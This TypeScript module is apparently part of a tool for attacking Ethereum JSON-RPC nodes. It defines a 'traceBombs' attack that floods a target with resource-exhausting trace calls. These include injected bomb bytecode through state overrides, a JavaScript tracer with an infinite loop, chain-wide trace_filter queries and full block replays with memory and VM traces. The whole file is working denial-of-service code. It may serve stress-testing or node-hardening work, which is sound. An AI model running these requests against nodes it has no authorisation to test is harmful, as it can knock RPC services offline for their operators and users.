import type { Attack } from '../AttackTarget.ts'
import { request } from '../request.ts'
import { rotate } from '../rotate.ts'
import { bombs } from './bombs.ts'

/** Traces of what has many steps, many frames or much memory. */
export const traceBombs: Attack = (options) => {
  const { addresses, transactionHash, blockHash } = options.target
  const to = `0x${'b0'.repeat(20)}`
  const call = { from: addresses[0], to }
  const ofCode = (code: string) => {
    const stateOverrides = { [to]: { code } }
    const configurations = [
      { enableMemory: true, enableReturnData: true },
      { tracer: 'callTracer', tracerConfig: { withLog: true } },
      { tracer: 'prestateTracer', tracerConfig: { diffMode: true } },
      { tracer: '4byteTracer' },
      { tracer: '{step: function() { for (;;); }}' },
    ]
    return configurations.map((configuration) =>
      request('debug_traceCall', call, 'latest', { ...configuration, stateOverrides }),
    )
  }
  return rotate(
    options,
    [
      ...Object.values(bombs).flatMap(ofCode),
      request('debug_traceTransaction', transactionHash, { enableMemory: true }),
      request('debug_traceBlockByHash', blockHash, { enableMemory: true }),
      request('debug_traceBlockByNumber', 'latest', { tracer: 'callTracer' }),
      request('trace_filter', { fromBlock: '0x0', toBlock: 'latest' }),
      request('trace_filter', { fromBlock: '0x1', toBlock: '0x20', count: 1_000_000 }),
      request('trace_block', 'latest'),
      request('trace_replayBlockTransactions', 'latest', ['trace', 'stateDiff', 'vmTrace']),
      request('trace_replayTransaction', transactionHash, ['trace', 'stateDiff']),
      request('ots_traceTransaction', transactionHash),
    ],
    4,
  )
}
